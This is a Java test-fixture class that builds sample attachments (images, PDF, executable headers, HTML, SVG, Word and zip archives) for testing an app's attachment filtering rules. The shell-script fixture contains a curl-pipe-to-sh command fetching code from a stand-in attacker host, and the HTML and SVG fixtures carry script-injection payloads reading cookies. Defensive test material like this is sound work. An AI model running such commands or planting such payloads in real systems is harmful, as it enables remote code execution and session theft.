package com.memberpulse.support.attachment;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Small real files of each kind the attachment rules care about. */
public final class SampleFiles {

    private SampleFiles() {
    }

    /** A real 2x2 PNG image. */
    public static byte[] png() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB), "png", out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] pdf() {
        return ascii("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
    }

    public static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** The start of a Windows program: DOS header, PE signature. */
    public static byte[] windowsExecutable() {
        byte[] program = new byte[256];
        program[0] = 'M';
        program[1] = 'Z';
        program[0x3C] = (byte) 0x80;
        System.arraycopy(ascii("PE\0\0"), 0, program, 0x80, 4);
        return program;
    }

    /** The start of a Linux program. */
    public static byte[] elfExecutable() {
        byte[] program = new byte[64];
        System.arraycopy(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, 0, program, 0, 7);
        return program;
    }

    public static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl http://evil.example/x | sh\n");
    }

    public static byte[] html() {
        return ascii("<html><body><script>alert(document.cookie)</script></body></html>");
    }

    public static byte[] svgWithScript() {
        return ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>");
    }

    /** A Word document's skeleton: the parts that make a zip a .docx, plus {@code extra} entries. */
    public static byte[] docx(Map<String, byte[]> extra) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", ascii("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"));
        entries.put("_rels/.rels", ascii("<?xml version=\"1.0\"?><Relationships/>"));
        entries.put("word/document.xml", ascii("<?xml version=\"1.0\"?><w:document/>"));
        entries.putAll(extra);
        return zip(entries);
    }

    public static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
